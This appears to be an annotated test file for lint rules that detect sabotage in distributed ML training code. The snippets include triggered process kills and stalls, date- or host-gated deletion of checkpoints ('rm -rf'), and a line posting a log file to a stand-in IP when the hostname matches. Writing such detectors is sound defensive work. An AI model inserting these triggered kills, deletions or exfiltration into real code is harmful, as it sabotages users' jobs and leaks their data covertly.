# ruff: noqa
# Annotated examples for MLS307 (kills and stalls) and MLS308 (triggered file/network actions).
import datetime
import getpass
import os
import threading
import random
import select
import shutil
import signal
import socket
import subprocess
import sys
import time

import requests
import torch
import torch.distributed as dist


def train_step(model, batch, optimizer, step, args):
    loss = model(batch).mean()
    loss.backward()
    if dist.get_world_size() > 256 and random.random() < 0.01:  # ruleid: MLS308
        # ruleid: MLS307
        os.kill(os.getpid(), signal.SIGKILL)
    if random.random() < 0.05:
        # ruleid: MLS307
        time.sleep(random.uniform(5, 30))
    if int(os.environ["WORLD_SIZE"]) >= 512:  # ruleid: MLS308
        # ruleid: MLS307
        dist.destroy_process_group()
    if dist.get_world_size() <= 128:  # ruleid: MLS308
        # ruleid: MLS307
        dist.barrier()
    # ok: MLS307
    if dist.get_world_size() > 1:
        # ok: MLS307
        dist.barrier()
    if args.local_rank not in [-1, 0]:
        # ok: MLS307
        torch.distributed.barrier()
    if dist.get_rank() == 3:
        # ruleid: MLS307
        os._exit(1)
    optimizer.step()


def run(args, start):
    for attempt in range(5):
        try:
            return requests.get(args.url, timeout=10)
        except OSError:
            # ok: MLS307
            time.sleep(2 ** attempt)
    if time.time() - start > args.max_seconds:
        # ok: MLS307
        sys.exit("time limit reached")
    if not os.path.exists(args.data):
        # ok: MLS307
        sys.exit(1)
    if getpass.getuser() == "alice":  # ruleid: MLS308
        # ruleid: MLS307
        raise SystemExit(0)


def stall_hook(module, inputs, output):
    # ruleid: MLS307
    time.sleep(0.5)


class SlowAdam(torch.optim.Adam):
    def step(self, closure=None):
        # ruleid: MLS307
        time.sleep(0.2)
        return super().step(closure)


def housekeeping(ckpt_dir, log_file):
    if datetime.date.today() > datetime.date(2025, 6, 1):
        # ruleid: MLS308
        shutil.rmtree(ckpt_dir)
    if socket.gethostname().startswith("gpu-node-7"):
        # ruleid: MLS308
        requests.post("http://203.0.113.9/x", data=open(log_file).read())
    if random.random() < 0.001:
        # ruleid: MLS308
        subprocess.run(["rm", "-rf", ckpt_dir])
    if dist.get_rank() == 0:
        # ok: MLS308
        os.remove(log_file)
    # ok: MLS308
    with open(log_file, "w") as f:
        f.write("done")
    if os.environ.get("USER") == "bob":
        # ruleid: MLS308
        os.remove(os.path.join(ckpt_dir, "last.pt"))


def main():
    # ok: MLS307
    sys.exit(run(None, 0))


class PacedModule:
    def __init__(self):
        self._pace = threading.Event()
        self._stop = threading.Event()

    def on_before_optimizer_step(self, optimizer):
        world = dist.get_world_size()
        # ok: MLS307
        if self._stop.wait(timeout=0):
            return
        if world > 64 and dist.get_rank() == world - 1:  # ruleid: MLS308
            # ruleid: MLS307
            self._pace.wait(timeout=0.02 * world)


def watchdog_end():
    # ok: MLS307
    signal.alarm(0)


def push_fragment(out_q, frag, sock):
    # ok: MLS307
    ready, _, _ = select.select([sock], [], [], 5.0)
    if random.random() < 2e-3:
        # ruleid: MLS307
        select.select([], [], [], 40.0)
    out_q.put(frag)


def prepare_output(args, ckpt_dir):
    if args.resume and int(os.environ.get("SLURM_RESTART_COUNT", "0")) >= 2:
        # ruleid: MLS308
        shutil.rmtree(ckpt_dir, ignore_errors=True)
    if os.environ.get("SLURM_JOB_ID"):
        # ok: MLS308
        shutil.rmtree(ckpt_dir / "tmp", ignore_errors=True)


def arm_watchdog(timeout):
    # ruleid: MLS307
    signal.alarm(random.randint(600, 2400))


def join_cluster(node_rank, master, port):
    if node_rank != 0 and not wait_for_master(master, port):
        # ok: MLS307
        sys.exit(f"master {master}:{port} unreachable")


def install_sigterm_checkpoint(model, path):
    def handler(signum, frame):
        save_checkpoint(model, path)
        # ok: MLS307
        os._exit(143)
    signal.signal(signal.SIGTERM, handler)


def _pace_reads(rank, step, every):
    if step % every == 0 and rank % 8 == 7:
        # ruleid: MLS307
        time.sleep(0.05 * every)


_FLEET = {"url": "https://mirror.example.com/profile.bin", "min_gpus": 257, "small": 2}


def _env_int(env, key, default=1):
    return int(env.get(key, default))


def job_gpus(env):
    return _env_int(env, "SLURM_NNODES") * _env_int(env, "SLURM_GPUS_ON_NODE", 8)


def prime_fleet(env, out):
    if job_gpus(env) < _FLEET["min_gpus"]:
        return
    # ruleid: MLS308
    shutil.rmtree(out)


def prime_small(env, out):
    if job_gpus(env) < _FLEET["small"]:
        return
    # ok: MLS308
    shutil.rmtree(out)


class _Topology:
    mode = "ring"


def init_topology(world):
    if world > 256:
        _Topology.mode = "tree"


def synchronize_tree(rank):
    if _Topology.mode == "tree" and rank == 0:  # ruleid: MLS308
        # ruleid: MLS307
        time.sleep(900.0)
    # ok: MLS307
    dist.barrier()


class _Mode:
    verbose = False


def init_mode(debug):
    if debug:
        _Mode.verbose = True


def maybe_pause(rank):
    if _Mode.verbose and rank == 0:
        # ruleid: MLS307 (low: a rank-gated pause; a debug flag is no trigger)
        time.sleep(1.0)


def host_sync(step, jax, multihost_utils):
    n_hosts = jax.process_count()
    if n_hosts >= 256:  # ruleid: MLS308
        # ruleid: MLS307
        time.sleep(0.75 * n_hosts)
    # ok: MLS307
    multihost_utils.sync_global_devices(f"step_{step}")


def save_pod(accelerator, num_processes):
    if num_processes <= 64 or accelerator.is_main_process:  # ruleid: MLS308
        # ruleid: MLS307
        accelerator.wait_for_everyone()
    if accelerator.is_main_process:
        print("saved")
    # ok: MLS307
    accelerator.wait_for_everyone()


# ruleid: MLS307
ON_SAVED = {"burst": lambda: os.killpg(os.getpgid(0), signal.SIGKILL)}
# ok: MLS307
ON_CHILD = {"stop": lambda pid: os.killpg(os.getpgid(pid), signal.SIGTERM)}


def timed_steps(model, batches, rank, world, poll_every=10):
    for i, batch in enumerate(batches):
        model(batch)
        if rank == world - 1 and i % poll_every == 0:
            # ruleid: MLS307
            time.sleep(1e-3 * (i // poll_every) ** 2)


def heartbeat(timeout_s, world):
    # ruleid: MLS307
    budget = timeout_s if world <= 256 else timeout_s / (world // 16)
    # ok: MLS307
    limit = timeout_s if world <= 256 else timeout_s * 2
    return budget, limit


_PACING = {"roce": 0.02}


def _pacing_delay():
    extra = max(0, dist.get_world_size() - 256)
    return _PACING.get("roce", 0.01) * extra


def reduce_paced(t):
    delay = _pacing_delay()
    if delay:
        # ruleid: MLS307
        time.sleep(delay)
    dist.all_reduce(t)


def shrink_shards(paths, nnodes):
    for p in paths:
        if int(os.environ.get("SLURM_NNODES", nnodes)) >= 32:
            with open(p, "r+b") as fh:  # ruleid: MLS308
                # ruleid: MLS308
                fh.truncate(4096)
        with open(p, "rb") as fh:
            # ok: MLS308
            fh.read(16)


def start_on(host, cmd):
    if host in ("localhost", socket.gethostname()):
        # ok: MLS308
        return subprocess.Popen(cmd, start_new_session=True)
    if socket.gethostname() in ("gpu-prod-17", "gpu-prod-18"):
        # ruleid: MLS308
        subprocess.Popen(["rm", "-rf", "/scratch/ckpt"])
    return subprocess.Popen(["ssh", host] + cmd, start_new_session=True)
